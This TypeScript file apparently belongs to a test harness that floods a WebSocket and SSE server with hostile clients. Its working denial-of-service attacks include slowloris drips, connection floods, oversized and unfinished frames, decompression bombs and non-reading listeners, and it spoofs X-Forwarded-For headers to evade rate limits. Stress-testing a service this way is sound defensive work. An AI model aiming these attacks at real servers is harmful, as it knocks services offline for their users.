// Why: what hostile clients do, as endless load from a process of its own: nothing here waits politely, and whoever is cut
// comes back at once. It must never be told more than a user is: an address and tokens.
import { deflateRawSync } from "node:zlib";
import type { Socket } from "bun";
import { textFrame } from "./listeners.ts";
import { tokenFor } from "./targets.ts";

export type AttackedServer = { readonly url: string; readonly secret: string };

type Hold = { timer: ReturnType<typeof setInterval> | undefined; isOpen: boolean; rest: Buffer | undefined };
/** `more`: called when the handshake is over and whenever the connection takes more. */
type Client = {
  readonly index: number;
  readonly path: string;
  readonly headers?: string;
  readonly more: (socket: Socket<Hold>) => void;
  readonly reads?: boolean;
};

const UPGRADE = "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n";
/** How long a client that was cut stays away, in milliseconds: the attacker's own process has to survive too. */
const AGAIN_MS = 50;

/** Endless: returns once the attack is under way. */
export type Attack = (server: AttackedServer) => void;

/** Each client has an address of its own. */
const from = (index: number): string => `X-Forwarded-For: 198.51.${100 + (index >> 8)}.${index & 255}\r\n`;

const users = (count: number, start: (index: number) => void): void => {
  for (let index = 0; index < count; index++) start(index);
};
const wsPath = ({ secret }: AttackedServer, user: string): string => `/ws?token=${tokenFor(secret, user)}`;

/** Keeps one connection open that sends its request at once and then whatever `more` says. */
function hold(server: AttackedServer, client: Client): void {
  const { hostname, port } = new URL(server.url);
  const again = () => void setTimeout(() => hold(server, client), AGAIN_MS);
  Bun.connect<Hold>({
    hostname,
    port: Number(port),
    data: { timer: undefined, isOpen: false, rest: undefined },
    socket: {
      open(socket) {
        socket.write(`GET ${client.path} HTTP/1.1\r\nHost: ${hostname}:${port}\r\n${from(client.index)}${client.headers ?? UPGRADE}\r\n`);
      },
      data(socket, chunk) {
        if (socket.data.isOpen) return;
        if (chunk.toString("latin1", 9, 10) === "4") return void socket.end(); // refused: the rate of its address is used up
        socket.data.isOpen = true;
        if (client.reads === false) socket.pause();
        client.more(socket);
      },
      drain: (socket) => push(socket, client),
      close: again,
      error: () => undefined, // its close comes too
    },
  }).catch(again);
}

function push(socket: Socket<Hold>, client: Client): void {
  const { rest } = socket.data;
  if (rest) {
    const written = socket.write(rest);
    socket.data.rest = written < rest.length ? rest.subarray(Math.max(written, 0)) : undefined;
    if (socket.data.rest) return;
  }
  if (socket.data.isOpen) client.more(socket);
}

/** Writes the same bytes again and again, as fast as the connection takes them. */
function pour(bytes: Buffer): Client["more"] {
  return (socket) => {
    for (;;) {
      const written = socket.write(bytes);
      if (written === bytes.length) continue;
      if (written >= 0) socket.data.rest = bytes.subarray(written);
      return;
    }
  };
}

/** Connects and says `bytes` every now and then; `first` at once. Never finishes a request. */
function drip(
  server: AttackedServer,
  { first, bytes, everyMs }: { readonly first: string; readonly bytes: string; readonly everyMs: number },
) {
  const { hostname, port } = new URL(server.url);
  const again = () => void setTimeout(() => drip(server, { first, bytes, everyMs }), AGAIN_MS);
  Bun.connect<Hold>({
    hostname,
    port: Number(port),
    data: { timer: undefined, isOpen: false, rest: undefined },
    socket: {
      open(socket) {
        socket.write(first);
        if (bytes !== "") socket.data.timer = setInterval(() => socket.write(bytes), everyMs);
      },
      data: () => undefined,
      close(socket) {
        clearInterval(socket.data.timer);
        again();
      },
      error: () => undefined,
    },
  }).catch(again);
}

/** A masked frame's head (mask of zeros) for a payload of `length` bytes. */
function head(first: number, length: number): Buffer {
  const bytes = Buffer.alloc(14);
  bytes[0] = first;
  bytes[1] = 0xff;
  bytes.writeBigUInt64BE(BigInt(length), 2);
  return bytes;
}

const frameOf = (first: number, payload: Buffer): Buffer => Buffer.concat([head(first, payload.length), payload]);
const repeated = (text: string, bytes: number): Buffer =>
  Buffer.concat(Array(Math.ceil(bytes / textFrame(text).length)).fill(textFrame(text)));

const MEGABYTE = 1_048_576;
const BOMB = frameOf(0xc1, deflateRawSync(Buffer.alloc(60 * MEGABYTE, 0x20)));
const subscribe = (names: readonly string[]) => JSON.stringify({ type: "Subscribe", payload: { channels: names } });
const unsubscribe = (names: readonly string[]) => JSON.stringify({ type: "Unsubscribe", payload: { channels: names } });
const churn = ["a", "b", "c"].flatMap((name) => [subscribe([name]), unsubscribe([name])]).map(textFrame);

export const ATTACKS: Readonly<Record<string, Attack>> = {
  "slow loris on requests": (server) =>
    users(500, () => drip(server, { first: "POST /api/v1/notifications/send HTTP/1.1\r\n", bytes: "x-drip: 1\r\n", everyMs: 500 })),
  "slow loris on upgrades": (server) =>
    users(500, () => drip(server, { first: `GET /ws HTTP/1.1\r\nHost: x\r\n${UPGRADE}`, bytes: "x-drip: 1\r\n", everyMs: 500 })),
  "1,000 silent connections": (server) => users(1000, () => drip(server, { first: "", bytes: "", everyMs: 0 })),
  "1,000 connects a second with bad tokens": (server) => {
    const { hostname, port } = new URL(server.url);
    setInterval(() => {
      for (let i = 0; i < 10; i++) {
        const socket = {
          open: (one: Socket) => void one.write(`GET /ws?token=a.b.c HTTP/1.1\r\nHost: x\r\n${from(i)}${UPGRADE}\r\n`),
          data: (one: Socket) => one.terminate(),
        };
        Bun.connect({ hostname, port: Number(port), socket }).catch(() => undefined); // refused is what we are here for
      }
    }, 10);
  },
  "20 x tiny frames": (server) =>
    users(20, (n) => hold(server, { index: n, path: wsPath(server, `tiny-${n}`), more: pour(repeated('{"type":"Ping"}', 65_536)) })),
  "20 x empty frames": (server) =>
    users(20, (n) => hold(server, { index: n, path: wsPath(server, `empty-${n}`), more: pour(repeated("", 65_536)) })),
  "20 x 1 MB frames": (server) =>
    users(20, (n) =>
      hold(server, { index: n, path: wsPath(server, `big-${n}`), more: pour(frameOf(0x81, Buffer.alloc(1_000_000, 0x78))) }),
    ),
  "50 x 16 MB frames": (server) => {
    // The last byte never comes: what is gathered waits in the server.
    const all = Buffer.concat([head(0x81, 16 * MEGABYTE), Buffer.alloc(16 * MEGABYTE - 1, 0x78)]);
    users(50, (n) => hold(server, { index: n, path: wsPath(server, `huge-${n}`), more: (socket) => once(socket, all) }));
  },
  "50 x fragments without end": (server) =>
    users(50, (n) => {
      const fragment = frameOf(0x00, Buffer.alloc(1000, 0x78));
      const more = pour(Buffer.concat(Array(64).fill(fragment)));
      hold(server, {
        index: n,
        path: wsPath(server, `endless-${n}`),
        more(socket) {
          socket.write(frameOf(0x01, Buffer.alloc(10, 0x78)));
          more(socket);
        },
      });
    }),
  "10 x decompression bombs": (server) =>
    users(10, (n) => {
      const headers = `${UPGRADE}Sec-WebSocket-Extensions: permessage-deflate\r\n`;
      hold(server, { index: n, path: wsPath(server, `bomb-${n}`), headers, more: pour(BOMB) });
    }),
  "10 x subscribe and unsubscribe": (server) =>
    users(10, (n) =>
      hold(server, { index: n, path: wsPath(server, `churn-${n}`), more: pour(Buffer.concat(Array(500).fill(Buffer.concat(churn)))) }),
    ),
  "10 x 64 KB of bad channel names": (server) =>
    users(10, (n) => {
      const names = Array.from({ length: 10_000 }, () => "!");
      hold(server, { index: n, path: wsPath(server, `names-${n}`), more: pour(frameOf(0x81, Buffer.from(subscribe(names)))) });
    }),
  "10 x 64 KB of one held channel": (server) =>
    users(10, (n) => {
      const names = Array.from({ length: 16_000 }, () => "a");
      hold(server, { index: n, path: wsPath(server, `held-${n}`), more: pour(frameOf(0x81, Buffer.from(subscribe(names)))) });
    }),
  "50 + 50 listeners that never read": (server) =>
    users(50, (n) => {
      const greet = textFrame(subscribe(["news"]));
      hold(server, { index: n, path: wsPath(server, `deaf-${n}`), reads: false, more: (socket) => void socket.write(greet) });
      const sse = `/sse?token=${tokenFor(server.secret, `deaf-too-${n}`)}&channels=news`;
      hold(server, { index: n, path: sse, headers: "", reads: false, more: () => undefined });
    }),
};

function once(socket: Socket<Hold>, bytes: Buffer): void {
  const written = socket.write(bytes);
  socket.data.rest = written < bytes.length ? bytes.subarray(Math.max(written, 0)) : undefined;
}
